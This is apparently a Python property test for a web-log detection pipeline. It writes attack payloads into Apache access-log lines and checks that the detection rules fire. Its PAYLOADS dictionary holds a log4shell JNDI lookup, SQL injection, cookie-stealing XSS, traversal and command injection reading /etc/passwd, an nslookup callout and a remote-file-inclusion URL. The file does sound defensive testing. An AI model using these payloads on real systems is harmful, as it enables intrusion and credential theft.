"""Property: an attack payload raises a signal wherever a client puts it in a request.

A line is written as Apache's combined format writes it (quotes and backslashes escaped the way
mod_log_config escapes them), with one payload placed in the path, in a query parameter, in the
User-Agent or in the Referer, raw or percent-encoded once or twice (not the User-Agent, which
applications read as sent); surrounding text is arbitrary.
The line goes through the real parser and the shipped web rules; at least one rule must fire
(which one may differ by place: `; cat /etc/passwd` in a User-Agent is caught as a local file
read, in the query as command injection). This is the property the issue "Never blind" asks of the web rules (payloads in
the path as well as the query, in headers, double-encoded)."""
from __future__ import annotations

from urllib.parse import quote

import numpy as np
import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pipelines.detection.engine import rule_hits
from pipelines.detection.loader import load_rules
from pipelines.parsing.base import LineBatch, ParseContext
from pipelines.parsing.web import parse_apache_combined
from pipelines.resources import data_dir

# One payload per family a scanner sends.
PAYLOADS = {
    "log4shell": "${jndi:ldap://198.51.100.7:1389/a}",
    "sqli": "1' UNION SELECT username,password FROM users-- -",
    "xss": "<script>alert(document.cookie)</script>",
    "traversal": "../../../../etc/passwd",
    "command": "; cat /etc/passwd",
    "substitution": "$(nslookup x.198.51.100.7.nip.io)",
    "rfi": "http://198.51.100.7/shell.txt?",
}
PLACES = ("path", "query", "user_agent", "referrer")
ENCODINGS = ("raw", "once", "twice")
# Text around the payload: printable, no characters that end a request target or a header.
FILLER = st.text(alphabet=st.characters(min_codepoint=0x21, max_codepoint=0x7e,
                                        blacklist_characters='"\\ ?#&%'), max_size=12)


@pytest.fixture(scope="module")
def rules():
    return load_rules([data_dir("detections") / "rules" / "web"]).rules


def _encode(text: str, how: str) -> str:
    if how == "raw":
        return text
    once = quote(text, safe="")
    return once if how == "once" else quote(once, safe="")


def _escape(text: str) -> str:
    """What Apache writes for a quote or backslash inside a quoted field."""
    return text.replace("\\", "\\\\").replace('"', '\\"')


def _line(place: str, value: str, before: str, after: str) -> str:
    target, agent, referrer = f"/{before}index.php", "Mozilla/5.0", "-"
    if place == "path":
        target = f"/{before}{value}{after}"
    elif place == "query":
        target = f"/{before}index.php?id={value}{after}"
    elif place == "user_agent":
        agent = f"{before}{value}{after}"
    else:
        referrer = f"http://{before or 'x'}.example/?q={value}{after}"
    if place in ("path", "query") and " " in value:
        return ""  # a raw space ends the request target: clients send it encoded
    return (f'203.0.113.9 - - [27/Nov/2026:21:04:05 +0100] "GET {_escape(target)} HTTP/1.1" 200 512 '
            f'"{_escape(referrer)}" "{_escape(agent)}"')


def _fired(rules, line: str) -> list[str]:
    batch = LineBatch("<property>", "0" * 16, pa.array([line], pa.string()), np.zeros(1, dtype=np.int64))
    events = parse_apache_combined(batch, ParseContext()).events
    assert events.num_rows == 1, line
    return [rule.title.lower() for rule, rows in rule_hits(rules, events) if len(rows)]


@settings(max_examples=150, deadline=None)
@given(family=st.sampled_from(sorted(PAYLOADS)), place=st.sampled_from(PLACES),
       encoding=st.sampled_from(ENCODINGS), before=FILLER, after=FILLER)
def test_an_attack_payload_raises_a_signal_wherever_it_is_placed(rules, family, place, encoding,
                                                                  before, after):
    payload = PAYLOADS[family]
    if family == "rfi":
        place = "query"  # a URL is an inclusion only as a parameter's value (?page=http://...)
    if place == "user_agent":
        encoding = "raw"  # applications do not percent-decode a User-Agent, and neither does Vigie
    value = _encode(payload, encoding)
    line = _line(place, value, before, after)
    if not line:
        value = _encode(payload, "once")
        line = _line(place, value, before, after)
    assert _fired(rules, line), (family, place, encoding, line)


def test_the_benign_neighbour_of_each_payload_raises_nothing(rules):
    """The same lines with an ordinary value in the payload's place: no signal at all."""
    for place in PLACES:
        assert _fired(rules, _line(place, "report-2026", "docs", ".pdf")) == [], place
